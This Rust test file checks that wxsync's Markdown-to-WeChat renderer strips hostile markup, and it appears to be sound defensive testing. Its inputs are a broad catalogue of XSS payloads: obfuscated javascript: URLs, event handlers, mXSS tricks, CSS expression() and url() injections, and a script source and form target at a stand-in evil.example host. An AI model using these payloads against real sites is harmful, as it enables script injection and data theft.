//! Hostile input: Markdown articles carrying raw HTML and Markdown constructs that try to get
//! script, overlays, foreign links or unstyled blocks into the HTML sent to WeChat
//! (DESIGN §2, reference/wechat-html.md §2.13). Every case renders through the public
//! library API and is judged by the independent checker in `support/safety.rs`.

#[path = "support/safety.rs"]
mod safety;

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use safety::{assert_wechat_safe, decode_entities, safety_violations, scan, unstyled_blocks};
use wxsync::render::theme::{BUILTIN, El};
use wxsync::render::{Renderer, Theme, render_text};
use wxsync::site::LinkMode;

/// A whole 1×1 PNG (signature, IHDR, IDAT, IEND): the smallest image `check` accepts, which
/// refuses a file cut short.
const PNG: &[u8] = b"\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0b\x49\x44\x41\x54\x78\x9c\x63\x60\x00\x02\x00\x00\x05\x00\x01\x7a\x5e\xab\x3f\x00\x00\x00\x00\x49\x45\x4e\x44\xae\x42\x60\x82";

/// One site root for all tests (a temporary directory holding `pic.png`), so local-image
/// cases resolve; kept for the life of the process.
fn root() -> &'static Path {
    static ROOT: OnceLock<(tempfile::TempDir, PathBuf)> = OnceLock::new();
    &ROOT
        .get_or_init(|| {
            let dir = tempfile::tempdir().expect("temp dir");
            std::fs::write(dir.path().join("pic.png"), PNG).expect("write pic.png");
            let canon = dir.path().canonicalize().expect("canonicalize");
            (dir, canon)
        })
        .1
}

fn theme() -> Theme {
    Theme::parse("default", BUILTIN[0].1, "default").expect("built-in theme parses")
}

fn renderer(links: LinkMode) -> Renderer {
    Renderer::with(root(), theme(), "InspiredGitHub", links, Default::default()).expect("renderer")
}

/// Renders `body` as an article (with a cover id, so the only diagnostics are about the
/// body) and returns the HTML content.
fn render(body: &str) -> String {
    render_with(body, LinkMode::Footnotes)
}

fn render_with(body: &str, links: LinkMode) -> String {
    let text = format!("---\ntitle: t\nthumb_media_id: x\n---\n{body}\n");
    match render_text(root(), "a.md", &text, &renderer(links)) {
        Ok(r) => r.payload.content,
        Err(d) => panic!("article rejected: {d:?}"),
    }
}

/// Renders `body`, asserts the output is safe and fully styled, that none of `absent`
/// (payload markers) survive and all of `present` (text around the attack, so an emptied
/// page cannot pass) do. Comparisons are case-insensitive.
fn check(body: &str, absent: &[&str], present: &[&str]) -> String {
    let html = render(body);
    assert_wechat_safe(&html);
    let lower = html.to_lowercase();
    for a in absent {
        assert!(
            !lower.contains(&a.to_lowercase()),
            "`{a}` survived:\n{html}"
        );
    }
    for p in present {
        assert!(lower.contains(&p.to_lowercase()), "`{p}` was lost:\n{html}");
    }
    html
}

/// The start tags named `name`, with their attributes.
fn tags(html: &str, name: &str) -> Vec<safety::Tag> {
    scan(html)
        .0
        .into_iter()
        .filter(|t| !t.end && t.name == name)
        .collect()
}

// --- The checker itself: it must catch what it claims to, or every test passes vacuously.

#[test]
fn checker_flags_known_bad_markup() {
    for bad in [
        "<script>x</script>",
        "<p style=\"a:b\" onclick=\"x\">a</p>",
        "<p style=\"a:b\" class=\"c\">a</p>",
        "<p style=\"a:b\" id=\"c\">a</p>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"https://example.com/\">x</a>",
        "<a href=\"https://mp.weixin.qq.com.evil.com/\">x</a>",
        "<a href=\"https://evil.com\\@mp.weixin.qq.com/\">x</a>",
        "<img src=\"java&#x09;script:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,AAAA\">",
        "<img src=\"//evil.example/a.png\">",
        "<img src=\"wxsync-asset:pending:0\">",
        "<span style=\"position:fixed\">x</span>",
        "<span style=\"color:red;POSITION : absolute\">x</span>",
        "<span style=\"background:url(&quot;https://x/&quot;)\">x</span>",
        "<span style=\"width:expression(alert(1))\">x</span>",
        "<span style=\"color:var(--x)\">x</span>",
        "<span style=\"color:\\72 ed\">x</span>",
        "<span style=\"font-family:&quot;a;position:fixed\">x</span>",
        "<!-- c -->",
        "<![CDATA[x]]>",
        "<span title='x'>a</span>",
        "<span title=x>a</span>",
        "<svg onload=\"x\"><g></g></svg>",
        "<svg id=\"a\"><g></g></svg>",
        "<svg><g class=\"c\"></g></svg>",
        "<svg><defs><path d=\"M0 0\"/></defs></svg>",
        "<svg><use href=\"#a\"/></svg>",
        "<svg><style>p{}</style></svg>",
        "<svg><foreignObject><p style=\"a:b\">x</p></foreignObject></svg>",
        "<svg><rect fill=\"url(#g)\"/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><svg></svg></svg>",
        "<svg><text>x</text></svg>",
        "<svg style=\"position:fixed\"><g></g></svg>",
        "<custom-el>x</custom-el>",
        "<img srcset=\"https://x/a.png 2x\">",
        "<span title=\"a",
    ] {
        assert!(
            !safety_violations(bad).is_empty(),
            "the checker missed: {bad}"
        );
    }
}

#[test]
fn checker_accepts_known_good_markup() {
    for good in [
        "<section style=\"color:#333;font-family:&quot;PingFang SC&quot;\"><p style=\"margin:0\">a &lt;script&gt; b</p></section>",
        "<a href=\"https://mp.weixin.qq.com/s/abc\" style=\"color:red\">x</a>",
        "<img src=\"wxsync-asset:sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\" style=\"max-width:100%\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><br>",
        "<ol start=\"3\" style=\"a:b\"><li style=\"a:b\">x</li></ol>",
        "<span style=\"font-family:&quot;a;position:fixed&quot;\">x</span>",
        "<span style=\"a:b\">x <svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 3.5\" width=\"2em\" height=\"1em\" style=\"vertical-align:-0.2em\"><g fill=\"currentColor\"><path d=\"M 190 467 L 186 0 Z\" transform=\"translate(0 8.832) scale(0.012 -0.012)\"/><rect x=\"1\" y=\"2\" width=\"3\" height=\"4\"/></g></svg> y</span>",
    ] {
        assert_eq!(safety_violations(good), Vec::<String>::new(), "{good}");
        assert_eq!(unstyled_blocks(good), Vec::<String>::new(), "{good}");
    }
    assert_eq!(
        unstyled_blocks("<p>a</p><td style=\"\">b</td><h3 style=\" \">c</h3>").len(),
        3
    );
    assert_eq!(
        decode_entities("&#106;ava&#X73;cript&colon;&amp;lt;&#0000106"),
        "javascript:<j"
    );
}

// --- Script and event handlers.

#[test]
fn script_block_and_content_removed() {
    check(
        "<script>alert('XSS1')</script>\n\nafter",
        &["XSS1", "<script"],
        &["after"],
    );
}

#[test]
fn script_inline_mixed_case_and_src() {
    check(
        "a <ScRiPt>alert('XSS2')</sCrIpT> b <SCRIPT SRC=//evil.example/x.js></SCRIPT> c",
        &["XSS2", "evil.example"],
        &["a ", "c"],
    );
}

#[test]
fn event_handlers_removed() {
    let html = check(
        "<div onclick=\"alert(1)\" onmouseover=\"alert(2)\" ONFOCUS=alert(3)>hi</div>\n\n\
         <img src=\"https://example.com/a.png\" onerror=\"alert(4)\" onload=\"alert(5)\">\n\n\
         <body onload=alert(6)>body</body>",
        &["alert("],
        &["hi", "https://example.com/a.png"],
    );
    assert!(
        !html.contains("onerror") && !html.contains("onload"),
        "{html}"
    );
}

#[test]
fn svg_with_onload_and_script_removed() {
    check(
        "<svg onload=\"alert(1)\"><circle r=\"10\"/><script>alert(2)</script></svg>\n\nafter svg",
        &["alert(", "circle"],
        &["after svg"],
    );
}

#[test]
fn math_mxss_removed() {
    check(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n\nafter math",
        &["alert(", "mglyph"],
        &["after math"],
    );
}

// --- javascript:/vbscript: URLs in raw HTML.

#[test]
fn javascript_href_variants_dropped() {
    let body = [
        "<a href=\"javascript:alert(1)\">l1</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">l2</a>",
        "<a href=\"&#106;avascript:alert(1)\">l3</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">l4</a>",
        "<a href=\"&#0000106&#0000097vascript:alert(1)\">l5</a>",
        "<a href=\"java&#x09;script:alert(1)\">l6</a>",
        "<a href=\"java\tscript:alert(1)\">l7</a>",
        "<a href=\" javascript:alert(1)\">l8</a>",
        "<a href=\"vbscript:msgbox(1)\">l9</a>",
        "<a href=\"javascript&colon;alert(1)\">l10</a>",
    ]
    .join(" ");
    let html = check(&body, &["alert(", "msgbox"], &["l1", "l5", "l10"]);
    assert!(
        tags(&html, "a").iter().all(|t| t.attr("href").is_none()),
        "{html}"
    );
}

#[test]
fn javascript_with_newline_inside_dropped() {
    check(
        "<div><a href=\"java\nscript:alert(1)\">nl</a><a href=\"jav&#x0A;ascript:alert(1)\">nl2</a></div>",
        &["alert("],
        &["nl", "nl2"],
    );
}

#[test]
fn javascript_in_css_url_dropped() {
    check(
        "<span style=\"background:url(javascript:alert(1))\">u1</span>\
         <span style=\"background:url('javascript:alert(2)')\">u2</span>\
         <img src=\"https://example.com/a.png\" style=\"background:url(vbscript:x)\">",
        &["alert(", "vbscript"],
        &["u1", "u2"],
    );
}

// --- Dangerous and WeChat-stripped elements, with their content.

#[test]
fn iframe_object_embed_removed_with_content() {
    check(
        "<iframe src=\"https://evil.example/\">IFRAMETEXT</iframe>\n\n\
         <object data=\"x.swf\">OBJTEXT<embed src=\"x.swf\"></object>\n\n\
         <embed src=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">\n\nkept",
        &["IFRAMETEXT", "OBJTEXT", "evil.example", "x.swf"],
        &["kept"],
    );
}

#[test]
fn form_controls_removed() {
    check(
        "<form action=\"https://evil.example/steal\"><input name=\"q\" value=\"INPUTVAL\">\
         <textarea>TEXTAREATEXT</textarea><button formaction=\"javascript:alert(1)\">BTN</button>\
         <select><option>OPT</option></select></form>\n\nafter form",
        &[
            "evil.example",
            "INPUTVAL",
            "TEXTAREATEXT",
            "BTN",
            "OPT",
            "alert(",
        ],
        &["after form"],
    );
}

#[test]
fn style_element_removed_with_content() {
    check(
        "<style>body{display:none} .x{color:red}</style>\n\ntext <style>p{position:fixed}</style> more",
        &["display:none", "color:red", "position"],
        &["text", "more"],
    );
}

#[test]
fn link_meta_base_removed() {
    check(
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n\
         <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n\
         <base href=\"https://evil.example/\">\n\nbody text",
        &["evil.example", "refresh", "alert("],
        &["body text"],
    );
}

#[test]
fn noscript_and_template_removed() {
    check(
        "<noscript><p title=\"</noscript><img src=https://example.com/n.png onerror=alert(1)>\">NS</p></noscript>\n\n\
         <template><script>alert(2)</script><img src=https://example.com/t.png onerror=alert(3)>TPL</template>\n\nstill here",
        &["alert(", "onerror"],
        &["still here"],
    );
}

#[test]
fn xmp_is_inert() {
    let html = check(
        "<xmp><script>alert(1)</script></xmp>\n\nend",
        &["<script"],
        &["end"],
    );
    assert!(!html.contains("<xmp"), "{html}");
}

// --- CSS in style attributes.

#[test]
fn position_and_offsets_removed() {
    check(
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background-color:#fff\">overlay</div>",
        &["position", "z-index", "top:"],
        &["overlay"],
    );
}

#[test]
fn behavior_and_binding_removed() {
    check(
        "<span style=\"behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x);color:red\">b</span>",
        &["behavior", "binding", "evil.example"],
        &["b</span>"],
    );
}

#[test]
fn css_expression_removed() {
    check(
        "<span style=\"width:expression(alert(1));color:red\">e</span>",
        &["expression", "alert"],
        &["e</span>"],
    );
}

#[test]
fn css_background_url_removed() {
    check(
        "<span style=\"background:url('https://evil.example/track.png') no-repeat\">bg</span>\
         <p style=\"background:url(data:image/png;base64,AAAA)\">bg2</p>",
        &["url(", "evil.example"],
        &["bg", "bg2"],
    );
}

#[test]
fn background_image_property_removed() {
    check(
        "<div style=\"background-image:url(https://evil.example/a.png);color:red\">bi</div>",
        &["background-image", "evil.example"],
        &["bi"],
    );
}

#[test]
fn css_variables_removed() {
    check(
        "<span style=\"color:var(--x);--x:red\">v</span>",
        &["var(", "--x"],
        &["v</span>"],
    );
}

#[test]
fn css_quote_tricks_stay_inside_their_string() {
    // The `;` inside a quoted font name must not start a new declaration.
    check(
        "<span style=\"font-family:'a;position:fixed';color:red\">q</span>\
         <span style='color:red\" onmouseover=\"alert(1)'>q2</span>",
        &[],
        &["q", "q2"],
    );
}

// --- URLs: data:, external links, mp.weixin.qq.com look-alikes.

#[test]
fn data_url_in_href_dropped() {
    let html = check(
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d1</a> \
         <a href=\"data:image/png;base64,iVBORw0KGgo=\">d2</a>",
        &["data:"],
        &["d1", "d2"],
    );
    assert!(
        tags(&html, "a").iter().all(|t| t.attr("href").is_none()),
        "{html}"
    );
}

#[test]
fn data_png_in_img_kept_svg_dropped() {
    let html = check(
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC0lEQVR4nGNgAAIAAAUAAXpeqz8AAAAASUVORK5CYII=\" alt=\"png\">\n\n\
         <img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"svg\">\n\n\
         <img src=\"data:text/html,<script>alert(1)</script>\" alt=\"html\">",
        &["svg+xml", "text/html", "alert("],
        &[],
    );
    let srcs: Vec<_> = tags(&html, "img")
        .iter()
        .filter_map(|t| t.attr("src").map(str::to_string))
        .collect();
    // A data: image is decoded and, like a local file, becomes the placeholder of its bytes
    // (issue 5: the push uploads it).
    assert_eq!(
        srcs,
        [format!(
            "wxsync-asset:{}",
            wxsync::render::ContentHash::of(PNG)
        )],
        "{html}"
    );
}

#[test]
fn external_links_lose_href_wechat_links_keep_it() {
    let html = check(
        "<a href=\"https://evil.example/\">ext</a> \
         <a href=\"https://mp.weixin.qq.com/s/ok\">wx</a> \
         <a href=\"https://mp.weixin.qq.com.evil.example/s\">lookalike</a> \
         <a href=\"https://evil.example/?u=https://mp.weixin.qq.com/\">query</a> \
         <a href=\"https://mp.weixin.qq.com:x@evil.example/\">userinfo</a>",
        &["evil.example"],
        &["ext", "wx", "lookalike", "query", "userinfo"],
    );
    let hrefs: Vec<_> = tags(&html, "a")
        .iter()
        .filter_map(|t| t.attr("href").map(str::to_string))
        .collect();
    assert_eq!(hrefs, ["https://mp.weixin.qq.com/s/ok"], "{html}");
}

#[test]
fn nested_links_keep_only_wechat_href() {
    let html = check(
        "<a href=\"https://mp.weixin.qq.com/s/outer\" onclick=\"alert(1)\">outer \
         <a href=\"https://evil.example/inner\">inner</a> tail</a>",
        &["evil.example", "alert("],
        &["outer", "inner", "tail"],
    );
    assert_eq!(html.matches("href=").count(), 1, "{html}");
}

#[test]
fn backslash_userinfo_lookalike_dropped() {
    check(
        "<a href=\"https://evil.example\\@mp.weixin.qq.com/s\">raw</a>\n\n[md](https://evil.example\\\\@mp.weixin.qq.com/s)",
        &[],
        &["raw", "md"],
    );
}

// --- Markdown constructs with hostile targets (no raw HTML: the writer alone must be safe).

#[test]
fn markdown_links_with_script_targets_are_text() {
    let html = check(
        "[m1](javascript:alert(1)) [m2](JAVASCRIPT:alert(2)) [m3](&#106;avascript:alert(3)) \
         [m4](vbscript:msgbox(4)) [m5](data:text/html;base64,PHNjcmlwdD4=) [m6][r] <javascript:alert(6)>\n\n\
         [r]: javascript:alert(5)",
        &["href"],
        &["m1", "m2", "m3", "m4", "m5", "m6"],
    );
    assert!(tags(&html, "a").is_empty(), "{html}");
}

#[test]
fn markdown_images_with_script_targets_dropped() {
    check(
        "![i1](javascript:alert(1)) ![i2](vbscript:x) ![i3](data:image/svg+xml;base64,PHN2Zz4=) ![i4](java&#9;script:alert(4))",
        &["alert(", "vbscript", "svg+xml"],
        &[],
    );
}

#[test]
fn markdown_image_attribute_quote_breaking_escaped() {
    let html = check(
        "![a\" onerror=\"alert(1)](https://example.com/a.png \"t\\\" onload=\\\"alert(2)\")\n\n\
         [x](<https://mp.weixin.qq.com/s/a\"onclick=\"alert(3)>)",
        &[],
        &["https://example.com/a.png"],
    );
    for t in scan(&html).0 {
        assert!(t.attrs.iter().all(|(n, _)| !n.starts_with("on")), "{html}");
    }
}

#[test]
fn heading_attributes_do_not_emit_class_or_id() {
    let html = check(
        "# Heading {#evil-id .evil-class onclick=alert(1)}\n\n## Two {.c2}",
        &["evil-class", "evil-id"],
        &["Heading", "Two"],
    );
    assert!(
        !html.contains(" id=") && !html.contains(" class="),
        "{html}"
    );
}

#[test]
fn task_lists_use_glyphs_not_inputs() {
    check(
        "- [ ] todo\n- [x] done\n  - [ ] nested",
        &["<input", "checkbox"],
        &["⬜", "✅", "todo", "nested"],
    );
}

#[test]
fn code_keeps_markup_as_text() {
    check(
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n```\n\n`<iframe src=x>` and $<svg onload=x>$",
        // The formula is typeset: its letters are drawn, never written as markup.
        &["<script", "<img", "<iframe", "<svg onload", "onload="],
        &["&lt;", "script", "iframe"],
    );
}

// --- Attributes and structure.

#[test]
fn class_and_id_stripped_theme_style_applied() {
    let html = check(
        "<p class=\"evil\" id=\"top\">para</p>\n\n<span class=\"c\" id=\"s\" data-x=\"1\" onclick=\"x\">sp</span>",
        &["class=", " id=", "data-x"],
        &["para", "sp"],
    );
    let p = theme().style(El::P).to_string();
    assert!(!p.is_empty());
    assert!(
        html.contains(&format!("<p style=\"{p}\">para</p>")),
        "{html}"
    );
}

#[test]
fn attribute_quote_breaking_in_raw_html() {
    check(
        "<span title=\"a\" onmouseover=\"alert(1)\" x=\"\">t1</span>\
         <img src=\"https://example.com/a.png\" alt=\"x\\\" onerror=alert(2) \">\
         <span title='x\" onclick=\"alert(3)'>t3</span><span title=x onclick=alert(4)//>t4</span>",
        &[],
        &["t1", "t3", "t4"],
    );
}

#[test]
fn srcset_and_other_url_attributes_dropped() {
    check(
        "<img src=\"https://example.com/a.png\" srcset=\"https://evil.example/a 2x\" lowsrc=\"javascript:x\" dynsrc=\"javascript:y\">\
         <table background=\"https://evil.example/bg.png\"><tr><td>c</td></tr></table>\
         <video poster=\"https://evil.example/p.png\"><source src=\"https://evil.example/v.mp4\"></video>",
        &["evil.example", "javascript"],
        &["https://example.com/a.png"],
    );
}

#[test]
fn comment_tricks_do_not_revive_script() {
    check(
        "<!--><script>alert(1)</script>-->\n\nc1\n\n<!-- --!><script>alert(2)</script> -->\n\nc2\n\n\
         a <!-- x --><img src=https://example.com/c.png onerror=alert(3)> b\n\n<!--[if IE]><script>alert(4)</script><![endif]-->\n\nc3",
        &["alert(", "<!--", "onerror"],
        &["c1", "c2", "c3"],
    );
}

#[test]
fn cdata_does_not_hide_markup() {
    check(
        "<div><![CDATA[<script>alert(1)</script>]]></div>\n\nafter cdata",
        &["<script", "<![cdata"],
        &["after cdata"],
    );
}

#[test]
fn script_in_footnote_list_table_and_blockquote() {
    check(
        "note[^1]\n\n[^1]: <script>alert(1)</script> foot <b onclick=alert(2)>b</b>\n\n\
         - <span onclick=\"alert(3)\">item</span>\n\n| h |\n|---|\n| <img src=https://example.com/c.png onerror=alert(4)> cell |\n\n\
         > <a href=\"javascript:alert(5)\">quoted</a>",
        &["alert(", "onclick", "onerror"],
        &["foot", "item", "cell", "quoted"],
    );
}

// --- Unclosed tags must not swallow the rest of the article.

#[test]
fn unclosed_inline_tags_do_not_swallow_the_page() {
    let html = check(
        "<div><span style=\"color:red\">unclosed\n\n# Later heading\n\nlast paragraph",
        &[],
        &["unclosed", "later heading", "last paragraph"],
    );
    assert!(
        html.contains("<h1 style="),
        "the heading after an unclosed <div> must still render: {html}"
    );
}

#[test]
fn unclosed_raw_text_tags_do_not_swallow_later_blocks() {
    // Raw HTML is sanitized block by block, so an element left open in one block ends there.
    for opener in [
        "<title>",
        "<noscript>",
        "<iframe>",
        "<xmp>",
        "<plaintext>",
        "<div>",
        "<table><tr><td>",
        "<a href=\"https://mp.weixin.qq.com/s/x\">",
    ] {
        let html = check(
            &format!("before\n\n{opener}\n\n# After heading\n\nafter paragraph"),
            &[],
            &["before", "after paragraph"],
        );
        assert!(
            html.contains("<h1 style="),
            "{opener} swallowed the heading after it: {html}"
        );
    }
}

#[test]
fn unclosed_type_1_html_block_ends_at_its_line_and_is_safe() {
    // CommonMark runs a block starting `<script>`, `<style>` or `<textarea>` to its closing tag
    // or the end of the document; wxsync ends one that never closes at its first line (with a
    // warning), so what follows is Markdown again, and none of it becomes live markup.
    for opener in ["<script>", "<style>", "<textarea>"] {
        let html = check(
            &format!("before\n\n{opener}\n\n# After\n\n<img src=x onerror=alert(1)>"),
            &["alert("],
            &["before", "after"],
        );
        assert!(html.contains("<h1"), "{opener}: {html}");
    }
}

#[test]
fn unresolved_local_images_are_errors() {
    // A missing local image may keep its path in the preview payload, but only with an error
    // diagnostic, which stops the article from being sent.
    let text =
        "---\ntitle: t\nthumb_media_id: x\n---\n<img src=\"missing1.png\">\n\n![m](missing2.png)\n";
    let r = render_text(root(), "a.md", text, &renderer(LinkMode::Footnotes)).expect("renders");
    let errors: Vec<_> = r
        .diagnostics
        .iter()
        .filter(|d| d.is_error())
        .map(|d| d.message.clone())
        .collect();
    assert!(
        errors.iter().any(|m| m.contains("missing1.png")),
        "{errors:?}"
    );
    assert!(
        errors.iter().any(|m| m.contains("missing2.png")),
        "{errors:?}"
    );
    let v = safety_violations(&r.payload.content);
    assert!(
        v.iter().all(|v| v.starts_with(safety::UNRESOLVED_SRC)),
        "{v:?}"
    );
}

#[test]
fn protocol_relative_image_becomes_https() {
    // A remote image like any other (the push uploads it); the scheme is made explicit so
    // the checker and WeChat both see an https URL. Markdown and raw HTML agree.
    for body in [
        "![p](//cdn.example/a.png)",
        "<img src=\"//cdn.example/a.png\">",
    ] {
        let html = check(body, &["src=\"//"], &[]);
        assert!(
            html.contains("src=\"https://cdn.example/a.png\""),
            "{body}: {html}"
        );
    }
}

#[test]
fn unclosed_attribute_quote_does_not_swallow_the_page() {
    check(
        "<span title=\"open\n\n# Heading after\n\nbody after",
        &["onclick"],
        &["body after"],
    );
}

// --- Benign user HTML survives and is styled.

#[test]
fn benign_html_survives() {
    let html = check(
        "<span style=\"color:red\">red</span> x<sup>2</sup> H<sub>2</sub>O a<br>b <strong>s</strong>\n\n\
         <p>user para</p>\n\n<section style=\"text-align:center\">centered</section>",
        &[],
        &[
            "red",
            "<sup>2</sup>",
            "<sub>2</sub>",
            "<br>",
            "user para",
            "centered",
        ],
    );
    assert!(
        html.contains("<span style=\"color:red\">red</span>"),
        "{html}"
    );
    assert!(html.contains("text-align:center"), "{html}");
}

#[test]
fn user_blocks_without_style_get_the_theme_style() {
    let html = check(
        "<table><tr><th>h</th></tr><tr><td>c</td></tr></table>\n\n\
         <ul><li>u</li></ul>\n\n<ol><li>o</li></ol>\n\n<h2>head</h2>\n\n<blockquote>bq</blockquote>\n\n<pre>code</pre>\n\n<p>para</p>",
        &[],
        &["head", "bq"],
    );
    let t = theme();
    for (tag, el) in [
        ("table", El::Table),
        ("th", El::Th),
        ("td", El::Td),
        ("ul", El::Ul),
        ("ol", El::Ol),
        ("li", El::Li),
        ("h2", El::H2),
        ("blockquote", El::Blockquote),
        ("pre", El::Pre),
        ("p", El::P),
    ] {
        let want = t.style(el).replace('"', "&quot;");
        assert!(!want.is_empty(), "theme styles <{tag}>");
        // The theme's style first; a list adds what hides its native markers after it.
        let themed = |s: &str| s == want || s.starts_with(&format!("{want};"));
        assert!(
            tags(&html, tag)
                .iter()
                .any(|x| x.attr("style").is_some_and(themed)),
            "<{tag}> lacks the theme style `{want}`:\n{html}"
        );
    }
}

#[test]
fn user_style_kept_when_present() {
    let html = check("<p style=\"color:#123456\">mine</p>", &[], &["mine"]);
    assert!(
        html.contains("<p style=\"color:#123456\">mine</p>"),
        "{html}"
    );
}

#[test]
fn user_block_with_only_forbidden_style_gets_theme_style() {
    check(
        "<p style=\"position:fixed\">p1</p>\n\n<td style=\"\">c</td>\n\n<h3 style=\"behavior:x\">h</h3>",
        &["position"],
        &["p1"],
    );
}

#[test]
fn local_image_in_html_becomes_placeholder() {
    let html = check(
        "<img src=\"pic.png\" onerror=\"alert(1)\">",
        &["pic.png", "alert("],
        &["wxsync-asset:sha256:"],
    );
    assert_eq!(tags(&html, "img").len(), 1, "{html}");
}

#[test]
fn links_modes_never_emit_external_href() {
    for mode in [LinkMode::Footnotes, LinkMode::Inline, LinkMode::Strip] {
        let html = render_with(
            "[ext](https://evil.example/a) [wx](https://mp.weixin.qq.com/s/b) <b>raw</b> <https://evil.example/c>",
            mode,
        );
        assert_wechat_safe(&html);
        assert_eq!(html.matches("href=").count(), 1, "{mode:?}: {html}");
    }
}

/// A footnote definition inside a block quote or a list item used to clear that block's
/// raw-HTML mark, so HTML before it in the same block went out unsanitized.
#[test]
fn a_footnote_inside_a_block_does_not_unmark_its_raw_html() {
    for body in [
        "> <script>alert(1)</script>\n>\n> [^1]: note\n\nref[^1]\n",
        "> before <img src=x onerror=alert(2)>\n>\n> [^n]: a note\n\nref[^n]\n",
        "- item <b onclick=\"alert(3)\">bold</b>\n\n  [^f]: inside an item\n\nref[^f]\n",
        "> <span style=\"position:fixed\">x</span>\n>\n> [^1]: <i onmouseover=alert(4)>note</i>\n\nref[^1]\n",
    ] {
        check(
            body,
            &[
                "<script",
                "alert(",
                "onerror",
                "onclick",
                "onmouseover",
                "position:fixed",
            ],
            &["ref", "①&nbsp;"],
        );
    }
}

#[test]
fn hidden_user_html_is_dropped_with_its_text() {
    for body in [
        "<p>a<span style=\"opacity: 0; position: absolute; left: -9999px;\">SECRET</span>b</p>",
        "<p>a<span style=\"display:none\">SECRET <img src=\"img/diagram.png\"></span>b</p>",
        "<p>a<b style=\"visibility:hidden\">SECRET</b>b</p>",
        "<p>a<span style=\"font-size:0\">SECRET</span>b</p>",
        "<p>a<span hidden>SECRET</span>b</p>",
        "text a<span style=\"text-indent:-9999px\">SECRET</span>b in Markdown",
    ] {
        let html = check(
            body,
            &["SECRET", "hidden", "display:none", "wxsync-asset"],
            &["a"],
        );
        assert!(html.contains("ab"), "{body}: {html}");
    }
}
